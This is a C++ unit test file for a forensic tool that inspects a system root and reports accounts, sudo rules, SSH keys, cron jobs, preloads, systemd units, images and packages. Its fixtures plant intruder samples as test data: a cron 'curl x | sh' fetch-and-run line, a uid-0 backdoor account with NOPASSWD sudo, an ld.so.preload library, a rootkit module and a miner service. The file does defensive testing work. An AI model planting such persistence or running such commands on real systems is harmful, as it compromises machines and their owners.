#include "inspect/machine.hpp"

#include <arpa/inet.h>
#include <fcntl.h>
#include <fmt/format.h>
#include <sys/socket.h>
#include <unistd.h>

#include <vector>

#include "base/path_text.hpp"
#include "inspect/below.hpp"
#include "inspect/fixture.hpp"

namespace kulla::inspect {
namespace {
using testing::Contains;
using testing::ElementsAre;
using testing::EndsWith;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Pair;
using testing::SizeIs;
using testing::StartsWith;

class MachineTest : public Inspection {
 protected:
  void link(std::string_view path, std::string_view target) const {
    std::filesystem::create_directories(at(path).parent_path());
    std::filesystem::create_symlink(target, at(path));
  }
  Machine machine() const { return facts_of(root, false); }
  Facts facts() const { return machine().facts; }
};
constexpr std::string_view ed25519 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMYIj4SWKO2tPiHStGJ2YPrHeTXjsHWCHVYrqPkTBHJK";
constexpr std::string_view fingerprint = "SHA256:A0AC6bPsNDYQ3X0XpbjXm5okRZzoVL63qgfPRL5xEjI";

TEST_F(MachineTest, AMachineHasAccountsAndUsr) {
  EXPECT_FALSE(is_machine(root));
  put("etc/passwd", "");
  EXPECT_FALSE(is_machine(root));
  std::filesystem::create_directory(at("usr"));
  EXPECT_TRUE(is_machine(root));
  EXPECT_FALSE(is_machine(at("missing")));
}

TEST_F(MachineTest, AMachineWhoseAccountsCannotBeReadIsOneStill) {
  put("usr/x", "");
  std::filesystem::create_directory(at("etc"));
  ASSERT_EQ(::mkfifo(at("etc/passwd").c_str(), 0600), 0);
  EXPECT_TRUE(is_machine(root));
  EXPECT_THAT(machine().unreadable, ElementsAre(Pair("etc/passwd", "no regular file")));
}

TEST_F(MachineTest, TellsNothingOfAnEmptyRoot) {
  EXPECT_THAT(facts(), IsEmpty());
  EXPECT_THAT(machine().unreadable, IsEmpty());
  EXPECT_THAT(facts_of(at("missing"), false).unreadable, SizeIs(1));
}

TEST_F(MachineTest, TellsAccountsWithoutTheirHashes) {
  put("etc/passwd",
      "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n\n# a comment\n"
      "mallory:x:000:0:,,,:/root:/bin/bash\nguest::1001:1001::/home/guest:\nold:abcdefghijklm:1002:1002::/:/bin/sh\nghost:x:5:5::/:/bin/"
      "sh\n");
  put("etc/shadow", "root:!$y$secret$secret:19000:0:99999:7:::\ndaemon:*:1::::::\nmallory:$y$j9T$secret:19000:0:99999:7:::\n");
  const auto all = facts();
  EXPECT_EQ(all.at("account/root"), "uid 0 gid 0 home /root shell /bin/bash, locked");
  EXPECT_EQ(all.at("account/daemon"), "uid 1 gid 1 home /usr/sbin shell /usr/sbin/nologin, locked");
  EXPECT_EQ(all.at("account/mallory"), "uid 0 gid 0 home /root shell /bin/bash, has a password");
  EXPECT_EQ(all.at("account/guest"), "uid 1001 gid 1001 home /home/guest shell none, no password needed");
  EXPECT_EQ(all.at("account/old"), "uid 1002 gid 1002 home / shell /bin/sh, has a password");
  EXPECT_EQ(all.at("account/ghost"), "uid 5 gid 5 home / shell /bin/sh, not in etc/shadow");
  EXPECT_EQ(all.size(), 6U);
  for (const auto& [name, value] : all) EXPECT_THAT(value, testing::Not(testing::AnyOf(HasSubstr("secret"), HasSubstr("abcdef")))) << name;
}

TEST_F(MachineTest, ANameThatIsThereTwiceHidesNothing) {
  put("etc/passwd", "root (2):x:7:7::/:/x\nroot:x:0:0::/:/a\nroot:x:0:0::/:/b\n   root:x:0:0::/:/c\n");
  const auto all = facts();
  EXPECT_THAT(all.at("account/root"), HasSubstr("/a, password unknown"));
  EXPECT_THAT(all.at("account/root (2)"), HasSubstr("uid 7"));
  EXPECT_THAT(all.at("account/root (3)"), HasSubstr("/b"));
  EXPECT_THAT(all.at("account/root (4)"), HasSubstr("/c"));
}

TEST_F(MachineTest, TellsGroupsWithSortedMembers) {
  put("etc/group", "sudo:x:27:zoe,adam\nadm:x:4:\nbroken:x\n");
  EXPECT_THAT(facts(), ElementsAre(Pair("group/adm", "gid 4, no members"), Pair("group/broken", "no line of group: broken:x"),
                                   Pair("group/sudo", "gid 27, members adam zoe")));
}

TEST_F(MachineTest, TellsWhoMayBecomeRoot) {
  put("etc/sudoers",
      "# comment\nDefaults\tenv_reset\n%sudo   ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n#includedir /etc/more\n#1000 ALL=ALL\n#-5 "
      "ALL=ALL\n#\n");
  put("etc/sudoers.d/x", "%admin ALL=(ALL) \\\n   NOPASSWD: ALL\nbob ALL=ALL\nbob  ALL=ALL\n");
  EXPECT_THAT(facts(), ElementsAre(Pair("sudoers/etc/sudoers.d/x: %25admin ALL=(ALL) NOPASSWD: ALL", ""),
                                   Pair("sudoers/etc/sudoers.d/x: bob ALL=ALL", "2 times"), Pair("sudoers/etc/sudoers: #-5 ALL=ALL", ""),
                                   Pair("sudoers/etc/sudoers: #1000 ALL=ALL", ""), Pair("sudoers/etc/sudoers: #includedir /etc/more", ""),
                                   Pair("sudoers/etc/sudoers: %25sudo ALL=(ALL:ALL) ALL", ""),
                                   Pair("sudoers/etc/sudoers: @includedir /etc/sudoers.d", ""),
                                   Pair("sudoers/etc/sudoers: Defaults env_reset", "")));
}

TEST_F(MachineTest, ACommentOfSudoersDoesNotSwallowTheNextLine) {
  put("etc/sudoers", "# harmless \\\nmallory ALL=(ALL) NOPASSWD: ALL\nlast ALL=ALL \\");
  EXPECT_THAT(facts(),
              ElementsAre(Pair("sudoers/etc/sudoers: last ALL=ALL", ""), Pair("sudoers/etc/sudoers: mallory ALL=(ALL) NOPASSWD: ALL", "")));
}

TEST_F(MachineTest, WhatSudoersContinuesIsNoComment) {
  put("etc/sudoers", "bob ALL=ALL, \\\n# x\ncarol ALL=ALL\n");
  EXPECT_THAT(facts(), ElementsAre(Pair("sudoers/etc/sudoers: bob ALL=ALL, # x", ""), Pair("sudoers/etc/sudoers: carol ALL=ALL", "")));
}

TEST_F(MachineTest, TellsKeysAsOpensshDoes) {
  put("etc/passwd", "alice:x:1000:1000::/home/alice:/bin/bash\nroot:x:0:0::/root/:/bin/bash\n");
  put("home/alice/.ssh/authorized_keys",
      fmt::format("# comment\n\n{} alice@laptop\nno-pty,command=\"echo \\\"a b\\\" c\" {}\nnot a key\n", ed25519, ed25519));
  put("root/.ssh/authorized_keys2", fmt::format("  {}\r\nssh-rsa {}\n", ed25519, ed25519.substr(12)));
  auto all = facts();
  std::erase_if(all, [](const auto& fact) { return !fact.first.starts_with("key/"); });
  const auto key = [](std::string_view account) { return fmt::format("key/{}/{}", account, fingerprint); };
  EXPECT_THAT(all, testing::UnorderedElementsAre(
                       Pair(key("alice"), "ssh-ed25519, comment \"alice@laptop\", no options, in home/alice/.ssh/authorized_keys"),
                       Pair(key("alice") + " (2)",
                            "ssh-ed25519, no comment, options no-pty,command=\"echo \\\"a b\\\" c\", in home/alice/.ssh/authorized_keys"),
                       Pair("key/alice/home/alice/.ssh/authorized_keys: not a key", ""),
                       Pair(key("root"), "ssh-ed25519, no comment, no options, in root/.ssh/authorized_keys2"),
                       Pair(StartsWith("key/root/root/.ssh/authorized_keys2: ssh-rsa AAAA"), "")));
}

TEST_F(MachineTest, TellsWhatCronRuns) {
  put("etc/crontab", "# m h\nSHELL=/bin/sh\n17 *\t* * *   root  run-parts\n");
  put("etc/cron.d/evil", "* * * * * root curl x | sh");
  put("var/spool/cron/crontabs/www-data", "@reboot /tmp/.x\n");
  put("etc/cron.daily/dpkg", "#!/bin/sh\n");
  EXPECT_THAT(facts(), ElementsAre(Pair("cron/etc/cron.d/evil: * * * * * root curl x | sh", ""), Pair("cron/etc/cron.daily/dpkg", ""),
                                   Pair("cron/etc/crontab: 17 * * * * root run-parts", ""), Pair("cron/etc/crontab: SHELL=/bin/sh", ""),
                                   Pair("cron/var/spool/cron/crontabs/www-data: @reboot /tmp/.x", "")));
}

TEST_F(MachineTest, TellsWhatIsLoadedAtStart) {
  put("etc/ld.so.preload", "\n/usr/lib/libevil.so\n");
  put("etc/modules", "# none\nloop\n");
  put("etc/modules-load.d/x.conf", "; none\nrootkit\n");
  EXPECT_THAT(facts(), ElementsAre(Pair("load/etc/modules-load.d/x.conf: rootkit", ""), Pair("load/etc/modules: loop", ""),
                                   Pair("preload//usr/lib/libevil.so", "")));
}

TEST_F(MachineTest, TellsUnitsThatAreStarted) {
  link("lib", "usr/lib");
  const std::string own = "etc/systemd/system/", shipped = "usr/lib/systemd/system/";
  put(own + "evil.service",
      "[Unit]\nDescription=x\n[Service]\nExecStartPre=/bin/true\nExecStart = /tmp/x \\\n# ExecStart=/not\n  -a\n# c \\\nExecStop=/tmp/y\n");
  put(own + "evil.timer", "[Timer]\nOnCalendar=hourly\nUnit=shipped-quiet.service\nOnFailure=x\n");
  put(own + "sshd.service.d/a.conf", "[Service]\nExecStartPost=/tmp/z\n");
  put(own + "sshd.service.d/b.conf", "[Service]\nNice=1\n");
  link(own + "multi-user.target.wants/ssh.service", "/lib/systemd/system/ssh.service");
  link(own + "getty.target.wants/getty@tty1.service", "/lib/systemd/system/getty@.service");
  link(own + "a.target.requires/opt.service", "/opt/opt.service");
  link(own + "hidden.service", "deep/hidden.service");
  link(own + "off.service", "/dev/null");
  put(own + "deep/hidden.service", "[Service]\nExecStart=/hidden\n");
  put("opt/opt.service", "[Service]\nExecStart=/opt/x\n");
  for (const char* name : {"ssh", "getty@", "shipped-quiet", "never-started", "tidy"})
    put(fmt::format("{}{}.service", shipped, name), fmt::format("[Service]\nExecStart=/usr/sbin/{}\n", name));
  put(shipped + "tidy.timer", "[Timer]\nOnBootSec=5\n");
  put("etc/systemd/user/u.service", "[Service]\nExecStart=/u\n");
  const auto all = facts();
  EXPECT_EQ(all, (Facts{{"unit/" + own + "evil.service", "ExecStartPre=/bin/true; ExecStart=/tmp/x -a; ExecStop=/tmp/y"},
                        {"timer/" + own + "evil.timer", "OnCalendar=hourly; Unit=shipped-quiet.service"},
                        {"unit/" + own + "sshd.service.d/a.conf", "ExecStartPost=/tmp/z"},
                        {"unit/" + own + "multi-user.target.wants/ssh.service", "link to /lib/systemd/system/ssh.service"},
                        {"unit/" + own + "getty.target.wants/getty@tty1.service", "link to /lib/systemd/system/getty@.service"},
                        {"unit/" + own + "a.target.requires/opt.service", "link to /opt/opt.service: ExecStart=/opt/x"},
                        {"unit/" + own + "hidden.service", "link to deep/hidden.service: ExecStart=/hidden"},
                        {"unit/" + own + "off.service", "masked"},
                        {"unit/" + shipped + "ssh.service", "ExecStart=/usr/sbin/ssh"},
                        {"unit/" + shipped + "getty@.service", "ExecStart=/usr/sbin/getty@"},
                        {"unit/" + shipped + "shipped-quiet.service", "ExecStart=/usr/sbin/shipped-quiet"},
                        {"unit/" + shipped + "tidy.service", "ExecStart=/usr/sbin/tidy"},
                        {"timer/" + shipped + "tidy.timer", "OnBootSec=5"},
                        {"unit/etc/systemd/user/u.service", "ExecStart=/u"}}));
}

TEST_F(MachineTest, TellsUnitsOfAnAccount) {
  put("etc/passwd", "alice:x:1:1::/home/alice:/bin/sh\nalias:x:1:1::/home/alice:/bin/sh\n");
  put("home/alice/.config/systemd/user/miner.service", "[Service]\nExecStart=/tmp/miner\n");
  EXPECT_THAT(facts(), Contains(Pair("unit/home/alice/.config/systemd/user/miner.service", "ExecStart=/tmp/miner")));
}

TEST_F(MachineTest, TellsContainerImages) {
  put("var/lib/docker/image/overlay2/repositories.json",
      R"({"Repositories":{"nginx":{"nginx:latest":"sha256:aa","nginx@sha256:bb":"sha256:aa","odd":7},"empty":{},"odd":3}})");
  put("var/lib/containers/storage/overlay-images/images.json",
      R"([{"id":"cc","digest":"sha256:dd","names":["docker.io/x:1"]},{"id":"ee"},7])");
  EXPECT_THAT(facts(), ElementsAre(Pair("image/containers/docker.io/x:1", "id cc, digest sha256:dd"),
                                   Pair("image/containers/ee", "id ee, digest "), Pair("image/docker/nginx:latest", "sha256:aa"),
                                   Pair("image/docker/nginx@sha256:bb", "sha256:aa"), Pair("image/docker/odd", "no digest")));
}

TEST_F(MachineTest, SaysWhichImagesCannotBeUnderstood) {
  put("var/lib/docker/image/overlay2/repositories.json", std::string(100'000, '['));
  put("var/lib/containers/storage/overlay-images/images.json", "{}");
  EXPECT_THAT(machine().unreadable, SizeIs(2));
  put("var/lib/docker/image/overlay2/repositories.json", std::string(5'000'000, ' '));
  EXPECT_THAT(machine().unreadable, Contains(Pair(HasSubstr("docker"), HasSubstr("over "))));
}

TEST_F(MachineTest, TellsPackages) {
  put("var/lib/dpkg/status",
      "Package: bash\nStatus: install ok installed\nArchitecture: amd64\nVersion: 5.2-1\nDescription: x\n Package: not\n\n\n"
      "Package: libc6\nStatus: install ok installed\nArchitecture: i386\nMulti-Arch: same\nVersion: 2.36\n\nStatus: no name\n");
  EXPECT_THAT(facts(),
              ElementsAre(Pair("package/bash", "5.2-1, install ok installed"), Pair("package/libc6:i386", "2.36, install ok installed")));
}

// ---- What an intruder may leave there

TEST_F(MachineTest, NeverFollowsALinkOutOfTheRoot) {
  put("../outside/passwd", "outsider:x:0:0::/:/bin/sh\n");
  link("etc/passwd", "../../outside/passwd");
  link("etc/group", "/etc/group");
  link("etc/sudoers", at("../outside/passwd").string());
  link("etc/cron.d", at("../outside").string());
  link("var", "../outside");
  const auto now = machine();
  EXPECT_THAT(now.facts, IsEmpty());
  EXPECT_THAT(now.unreadable, Contains(Pair("etc/passwd", HasSubstr("leads nowhere"))));
  EXPECT_THAT(now.unreadable, Contains(Pair("etc/group", HasSubstr("cannot be opened"))));
  EXPECT_THAT(now.unreadable, Contains(Pair("etc/sudoers", HasSubstr("leads nowhere"))));
  EXPECT_THAT(now.unreadable, Contains(Pair("etc/cron.d", HasSubstr("leads nowhere"))));
  EXPECT_THAT(now.unreadable, Contains(Pair("var/lib/dpkg/status", HasSubstr("leads nowhere"))));
}

TEST_F(MachineTest, ALinkIsTheRootsOwn) {
  link("etc/passwd", "/usr/passwd");
  put("usr/passwd", "inside:x:1:1::/:/x\n");
  EXPECT_THAT(facts(), Contains(Pair("account/inside", HasSubstr("uid 1"))));
}

TEST_F(MachineTest, NeverOpensAPipe) {
  put("etc/passwd", "alice:x:1:1::/home/alice:/bin/sh\n");
  std::filesystem::create_directories(at("home/alice/.ssh"));
  ASSERT_EQ(::mkfifo(at("home/alice/.ssh/authorized_keys").c_str(), 0600), 0);
  link("home/alice/.ssh/authorized_keys2", "authorized_keys");
  EXPECT_THAT(machine().unreadable, ElementsAre(Pair("home/alice/.ssh/authorized_keys", "no regular file"),
                                                Pair("home/alice/.ssh/authorized_keys2", "no regular file")));
}

TEST_F(MachineTest, NeverReadsWhatTheKernelMakesUp) {
  const auto top = open_root("/");
  ASSERT_TRUE(top);
  const auto read = read_below(top->get(), "proc/version", 4096);
  ASSERT_FALSE(read);
  EXPECT_THAT(read.error().what, HasSubstr("pseudo"));
  EXPECT_TRUE(read_below(open_root("/proc").value().get(), "version", 4096));
  EXPECT_FALSE(read_below(open_root("/proc").value().get(), "self/root/etc/passwd", 1 << 20));
}

TEST_F(MachineTest, CutsLongTextsAndTellsThemApart) {
  const std::string long_line(1'000'000, 'x');
  put("etc/passwd", long_line + "\n" + long_line + "y\nshort:x:99999999999999999999999:-1:\xff\x01:/\x80:/bin/\x1b[31m\n" + long_line +
                        ":x:1:1::/" + long_line + ":/bin/sh\n");
  const auto now = machine();
  EXPECT_THAT(now.facts, SizeIs(4));
  for (const auto& [name, value] : now.facts) {
    EXPECT_LE(name.size(), fact_text_limit);
    EXPECT_LE(value.size(), fact_text_limit);
  }
  EXPECT_EQ(now.facts.at("account/short"), "uid 99999999999999999999999 gid -1 home /%80 shell /bin/%1B[31m, password unknown");
  EXPECT_THAT(now.unreadable, Contains(Pair(EndsWith(")"), HasSubstr("too long"))));
}

TEST_F(MachineTest, SurvivesNoise) {
  const std::vector<std::string> files{"etc/passwd",
                                       "etc/shadow",
                                       "etc/group",
                                       "etc/sudoers",
                                       "etc/sudoers.d/bad\xff\nname",
                                       "etc/crontab",
                                       "etc/ld.so.preload",
                                       "etc/systemd/system/x.service",
                                       "etc/systemd/system/x.timer",
                                       "var/lib/dpkg/status",
                                       "var/lib/docker/image/overlay2/repositories.json"};
  for (unsigned seed = 0; const auto& file : files) put_noise(file, ++seed);
  put("etc/shadow", std::string(10'000, ':') + '\0' + std::string(10'000, '\n'));
  put("etc/modules", std::string(10'000, '\\'));
  put("root/.ssh/authorized_keys", std::string("ssh-rsa \0====\n a\"\\\"\nssh-rsa =\n\"", 30));
  put("etc/passwd", std::string("r:x:0:0::/root:\nn:x:0:0::/a\0b:\nd:x:0:0::/../../../..:\n", 56));
  const auto now = machine();
  EXPECT_GT(now.facts.size(), 10U);
  for (const auto& [name, value] : now.facts)
    for (const auto& text : {name, value}) EXPECT_EQ(escape_path(unescape_path(text).value_or("?")), text);
  EXPECT_THAT(now.unreadable, Contains(Pair("a%00b/.ssh/authorized_keys", HasSubstr("Invalid argument"))));
}

TEST_F(MachineTest, StopsAtANumberOfFactsAndSaysSo) {
  std::string lines;
  for (int i = 0; i < 100'100; ++i) lines += fmt::format("a{}:x:1:1::/:\n", i);
  put("etc/passwd", lines);
  const auto now = machine();
  EXPECT_THAT(now.facts, SizeIs(fact_limit));
  EXPECT_THAT(now.unreadable, ElementsAre(Pair(".", HasSubstr("more than 100000 facts"))));
}

TEST_F(MachineTest, StopsAtASizeOfFactsAndSaysSo) {
  const std::string filler(4000, 'x');
  std::string lines;
  for (int i = 0; i < 4'000; ++i) lines += fmt::format("{} {}\n", i, filler);
  for (const char* file : {"etc/crontab", "etc/cron.d/a", "etc/cron.d/b"}) put(file, lines);
  const auto now = machine();
  EXPECT_LT(now.facts.size(), 9'000U);
  EXPECT_THAT(now.unreadable, ElementsAre(Pair(".", HasSubstr("facts of more than"))));
}

TEST_F(MachineTest, AHugeFileIsNotRead) {
  put("etc/group", "");
  std::filesystem::resize_file(at("etc/group"), std::uintmax_t{1} << 35);
  EXPECT_THAT(machine().unreadable, ElementsAre(Pair("etc/group", HasSubstr("over 16777216 bytes"))));
}

TEST_F(MachineTest, AFolderWithTooManyNamesIsNotLookedInto) {
  for (int i = 0; i < 12; ++i) put(fmt::format("d/{}", i), "");
  const auto top = open_root(root);
  EXPECT_EQ(names_below(top->get(), "d", 12)->size(), 12U);
  EXPECT_EQ(names_below(top->get(), "d", 11).error().code, Code::too_large);
  EXPECT_EQ(names_below(top->get(), "e").error().code, Code::not_found);
}

// ---- The machine that this runs on

TEST_F(MachineTest, TellsWhoListens) {
  const Descriptor tcp{::socket(AF_INET, SOCK_STREAM, 0)}, udp{::socket(AF_INET, SOCK_DGRAM, 0)}, client{::socket(AF_INET, SOCK_DGRAM, 0)};
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  const auto bind_to = [&](const Descriptor& socket, std::uint16_t port) {
    address.sin_port = htons(port);
    socklen_t size = sizeof address;
    if (::bind(socket.get(), reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0) return 0;
    ::getsockname(socket.get(), reinterpret_cast<sockaddr*>(&address), &size);
    return int{ntohs(address.sin_port)};
  };
  const int tcp_port = bind_to(tcp, 0), client_port = bind_to(client, 0);
  int udp_port = 0;
  for (std::uint16_t port = 2000; udp_port == 0 && port < 2100; ++port) udp_port = bind_to(udp, port);
  ASSERT_EQ(::listen(tcp.get(), 1), 0);
  ASSERT_NE(udp_port, 0);
  const auto all = facts_of("/", true).facts;
  const auto self = std::filesystem::read_symlink("/proc/self/exe").string();
  const auto tcp_name = fmt::format("listen/tcp/127.0.0.1:{}", tcp_port), udp_name = fmt::format("listen/udp/127.0.0.1:{}", udp_port);
  ASSERT_TRUE(all.contains(tcp_name));
  ASSERT_TRUE(all.contains(udp_name));
  EXPECT_THAT(all.at(tcp_name), StartsWith(self + ", account "));
  EXPECT_THAT(all.at(udp_name), StartsWith(self + ", account "));
  EXPECT_TRUE(all.contains("listen/udp/ports of clients"));
  EXPECT_FALSE(all.contains(fmt::format("listen/udp/127.0.0.1:{}", client_port)));
  EXPECT_FALSE(facts_of("/", false).facts.contains(tcp_name));
}

TEST_F(MachineTest, TellsThisMachine) {
  if (!std::filesystem::exists("/etc/debian_version")) GTEST_SKIP() << "no Debian";
  ASSERT_TRUE(is_machine("/"));
  const auto now = facts_of("/", false);
  EXPECT_THAT(now.facts.at("account/root"), StartsWith("uid 0 gid 0 home /root shell "));
  EXPECT_THAT(now.facts.at("package/coreutils"), EndsWith("install ok installed"));
  for (const auto& [name, value] : now.facts) EXPECT_THAT(value, testing::Not(HasSubstr("$y$"))) << name;
}
}  // namespace
}  // namespace kulla::inspect
